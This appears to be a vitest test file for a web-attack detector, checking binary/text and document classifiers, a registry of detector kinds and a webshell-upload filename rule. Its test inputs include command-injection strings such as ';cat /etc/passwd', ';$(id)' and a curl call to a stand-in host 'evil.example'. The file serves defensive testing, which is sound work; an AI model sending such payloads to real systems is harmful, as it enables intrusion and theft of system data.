import { describe, expect, it } from 'vitest';
import { detectors } from '../../src/detect/index.ts';
import { looksBinary, looksLikeDocument } from '../../src/detect/text-shape.ts';
import { detectWebshell } from '../../src/detect/webshell/index.ts';

describe('text shapes', () => {
  it('tells binary data from text', () => {
    expect(looksBinary('\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR')).toBe(true);
    expect(looksBinary('%PDF-1.7\n' + '\u00e2\u00e3\u00cf\u00d3\u0001\u0002\u0003\u0004\u0005\u0006'.repeat(5))).toBe(true);
    expect(looksBinary('Hello, wörld — ünïcödé text\twith tabs\r\n')).toBe(false);
  });
  it('tells a written document from a single form value', () => {
    expect(looksLikeDocument('<p>Run <code>ls -la</code></p>')).toBe(true);
    expect(looksLikeDocument('Try `cat /etc/os-release` to see the version')).toBe(true);
    expect(looksLikeDocument('one\ntwo\nthree')).toBe(true);
    expect(looksLikeDocument(Array.from({ length: 30 }, (_, i) => `word${i}`).join(' '))).toBe(true);
    expect(looksLikeDocument('`curl -L http://evil.example`')).toBe(false);
    expect(looksLikeDocument(';cat /etc/passwd')).toBe(false);
    expect(looksLikeDocument('AAAA'.repeat(4000) + ';$(id)')).toBe(false);
  });
});

describe('registry', () => {
  it('lists every W2 detector under its kind', () => {
    const kinds = detectors.map((d) => d.kind);
    for (const k of ['cmdi', 'path_traversal', 'file_inclusion', 'ssti', 'xxe', 'java_deserialization', 'jndi', 'webshell_upload', 'crlf', 'ssi', 'ldap', 'nosql', 'mail_injection'] as const) {
      expect(kinds).toContain(k);
    }
  });
  it('judges upload names sent in X-Filename headers when the name is passed', () => {
    expect(detectWebshell('shell.php', 'header', 'X-Filename')?.rule).toBe('webshell.script_upload');
    expect(detectWebshell('dangerous.phar', 'header', 'X.Filename')?.severity).toBe(2);
    expect(detectWebshell('shell.php', 'header', 'Referer')).toBeNull();
    expect(detectWebshell('photo.jpg', 'header', 'X-File-Name')).toBeNull();
  });
});
